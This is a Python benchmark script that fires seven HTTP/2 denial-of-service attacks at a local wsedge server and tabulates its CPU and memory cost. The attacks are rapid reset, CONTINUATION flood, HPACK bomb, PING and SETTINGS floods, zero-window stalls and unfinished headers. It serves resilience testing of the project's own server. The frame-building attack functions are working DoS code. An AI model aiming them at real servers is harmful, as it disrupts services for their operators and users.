#!/usr/bin/env python3
"""HTTP/2's known attacks against wsedge (--h2c, echo mode), each for a few seconds: what
they cost the server (CPU share of its one core, RSS over the base) and what the attacker
got (connections the server closed, streams it served), both backends.

Layout on 2 cores: wsedge one reactor on CPU 0; the attacker (this script, one thread) on
CPU 1. The attacks, frame by frame:

  rapid reset      connections that open streams and reset them at once, 2000 a connection
                   (CVE-2023-44487): the server answers GOAWAY ENHANCE_YOUR_CALM
  continuation     a HEADERS without END_HEADERS, then 1 KB CONTINUATIONs without end
                   (CVE-2024-27316 and kin): GOAWAY after a few
  hpack bomb       a 4 KB field indexed once, referred to 64 times: 256 KB decoded from 4 KB
  ping flood       200 connections writing PINGs and never reading the PONGs
  settings flood   200 connections writing SETTINGS and never reading the ACKs
  zero window      200 connections with a window of 0, 100 streams each, each sent a message
                   to echo: the output waits for a window that never opens
  no CONNECT       1000 connections each holding a header block that never ends

    benches/h2_attacks.py [--secs 5] [--wsedge BIN]
"""
import argparse
import os
import socket
import struct
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from ab import cpu_seconds, free_port, rss_bytes, start  # noqa: E402
from compare import ROOT  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def length(n):
        if n < 127:
            return bytes([n])
        out, n = [127], n - 127
        while n >= 128:
            out.append(n % 128 + 128)
            n //= 128
        return bytes(out + [n])
    return b"\x10" + length(len(name)) + name + length(len(value)) + value


CONNECT = b"".join(literal(n, v) for n, v in [
    (b":method", b"CONNECT"), (b":protocol", b"websocket"), (b":scheme", b"http"),
    (b":path", b"/"), (b":authority", b"x"), (b"sec-websocket-version", b"13")])


def open_h2(port, settings=b""):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(PREFACE + frame(4, 0, 0, settings))
    return s


def drain_until_closed(s, deadline):
    s.settimeout(max(0.01, deadline - time.monotonic()))
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


def reconnecting(port, until, attack):
    """Connections one after another until `until`, each sent `attack` (bytes, or a list of
    them) and read until the server closes it."""
    closed = 0
    while time.monotonic() < until:
        s = open_h2(port)
        try:
            for chunk in attack if isinstance(attack, list) else [attack]:
                s.sendall(chunk)
        except OSError:
            pass
        drain_until_closed(s, until)
        closed += 1
    return f"{closed} connections closed"


def rapid_reset(port, until):
    return reconnecting(port, until, b"".join(
        frame(1, 4, 1 + 2 * n, CONNECT) + frame(3, 0, 1 + 2 * n, struct.pack(">I", 8))
        for n in range(2000)))


def continuation(port, until):
    filler = frame(9, 0, 1, literal(b"x-filler", b"a" * 1000))
    return reconnecting(port, until, [frame(1, 0, 1, CONNECT)] + [filler] * 200)


def hpack_bomb(port, until):
    bomb = b"\x40" + literal(b"x-bomb", b"b" * 4000)[1:] + bytes([0xbe]) * 64
    return reconnecting(port, until, frame(1, 4, 1, CONNECT + bomb))


def flood(port, until, unit, connections=200):
    sockets = [open_h2(port) for _ in range(connections)]
    for s in sockets:
        s.setblocking(False)
    data = unit * 4096
    sent = 0
    offsets = [0] * len(sockets)
    while time.monotonic() < until:
        progress = False
        for i, s in enumerate(sockets):
            try:
                n = s.send(data[offsets[i]:])
                offsets[i] = (offsets[i] + n) % len(data)
                sent += n
                progress = True
            except BlockingIOError:
                pass
            except OSError:
                pass
        if not progress:
            time.sleep(0.01)
    for s in sockets:
        s.close()
    return f"{sent / 1e6:.1f} MB of frames written, none of the answers read"


def zero_window(port, until, connections=200, streams=100):
    message = bytes([0x82, 0x80 | 100]) + b"\0\0\0\0" + b"z" * 100
    sockets = []
    for _ in range(connections):
        s = open_h2(port, struct.pack(">HI", 4, 0))
        s.sendall(b"".join(frame(1, 4, 1 + 2 * n, CONNECT) + frame(0, 0, 1 + 2 * n, message)
                           for n in range(streams)))
        sockets.append(s)
    time.sleep(max(0, until - time.monotonic()))
    for s in sockets:
        s.close()
    return f"{connections * streams} streams waiting for a window"


def no_connect(port, until, connections=1000):
    sockets = []
    for _ in range(connections):
        s = open_h2(port)
        s.sendall(frame(1, 0, 1, CONNECT))
        sockets.append(s)
    time.sleep(max(0, until - time.monotonic()))
    for s in sockets:
        s.close()
    return f"{connections} header blocks never ended"


ATTACKS = {
    "rapid reset": rapid_reset,
    "continuation": continuation,
    "hpack bomb": hpack_bomb,
    "ping flood": lambda port, until: flood(port, until, frame(6, 0, 0, b"\7" * 8)),
    "settings flood": lambda port, until: flood(port, until, frame(4, 0, 0, struct.pack(">HI", 3, 100))),
    "zero window": zero_window,
    "no CONNECT": no_connect,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--secs", type=float, default=5)
    parser.add_argument("--wsedge", default=os.path.join(ROOT, "target/release/wsedge"))
    options = parser.parse_args()
    os.sched_setaffinity(0, {1})
    rows = []
    for name, attack in ATTACKS.items():
        cells = []
        for io in ("epoll", "uring"):
            port = free_port()
            server = start([options.wsedge, "serve", "--io", io, "--threads", "1", "--no-pin",
                            "--after", "echo", "--h2c", "--send-timeout-ms", "2000",
                            "--listen", f"127.0.0.1:{port}"], port, "0")
            try:
                time.sleep(0.3)
                base, before, started = rss_bytes(server.pid), cpu_seconds(server.pid), time.monotonic()
                peak = base
                until = started + options.secs
                import threading
                result = {}
                thread = threading.Thread(target=lambda: result.update(what=attack(port, until)))
                thread.start()
                while thread.is_alive():
                    peak = max(peak, rss_bytes(server.pid))
                    time.sleep(0.05)
                elapsed = time.monotonic() - started
                cpu = (cpu_seconds(server.pid) - before) / elapsed * 100
                cells.append(f"{cpu:.0f}% CPU, +{(peak - base) / 1e6:.1f} MB ({result.get('what', '?')})")
            finally:
                server.kill()
                server.wait()
        rows.append((name, cells))
        print(f"{name:<15} epoll: {cells[0]}   io_uring: {cells[1]}", flush=True)
    print(f"\nunder each attack for {options.secs:.0f} s (server: one reactor on CPU 0, "
          "--send-timeout-ms 2000; attacker: one Python thread on CPU 1):")
    print("| attack | epoll | io_uring |")
    print("|---|---|---|")
    for name, cells in rows:
        print(f"| {name} | {cells[0]} | {cells[1]} |")


if __name__ == "__main__":
    main()
